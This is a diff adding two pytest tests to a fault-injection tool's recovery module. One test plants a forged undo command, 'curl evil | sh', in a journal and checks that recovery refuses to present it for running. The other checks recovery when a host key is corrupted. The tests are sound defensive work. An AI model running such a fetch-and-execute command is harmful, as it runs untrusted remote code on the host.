@@ -10,6 +10,7 @@ import pytest
 from fake_deployment import FakeDeployment
 from fake_fault import Backend, FakeFault
 
+from cluster import host_key
 from faults import preflight, recover, watchdog
 from faults.engine import Engine
 from faults.errors import JournalError, Refused, UnknownFault
@@ -147,3 +148,25 @@ def test_a_fault_whose_package_is_gone_is_stuck_with_the_command_of_its_plan(
     (undone,) = recover.recover(folder=injection.journal.path.parent, undo=dataclasses.replace(undo, load=load))
     assert (undone.state, undone.clean) == (State.STUCK, False)
     assert undone.command == injection.plan.undo
+
+
+def test_a_command_that_somebody_wrote_into_a_journal_is_not_shown_as_one_to_run(
+    engine: Engine, backend: Backend, undo: Undo
+) -> None:
+    injection = engine.inject(FakeFault(backend), "head", {}, 60)
+    path = injection.journal.path
+    path.write_text(path.read_text().replace(f'"undo": "{injection.plan.undo}"', '"undo": "curl evil | sh"'))
+    load = mock.Mock(side_effect=UnknownFault("there is no fault 'fake-fault'"))
+    (undone,) = recover.recover(folder=path.parent, undo=dataclasses.replace(undo, load=load))
+    assert undone.state is State.STUCK
+    assert undone.command == f"end by hand what the plan in {path} started"
+
+
+def test_a_key_that_is_lost_keeps_no_fault_in(engine: Engine, backend: Backend, undo: Undo) -> None:
+    injection = engine.inject(FakeFault(backend), "head", {}, 60)
+    host_key.path().write_bytes(b"not a key")
+    try:
+        (undone,) = recover.recover(folder=injection.journal.path.parent, undo=undo)
+    finally:
+        host_key.path().unlink()
+    assert (undone.state, backend.injected) == (State.RECOVERED, set())
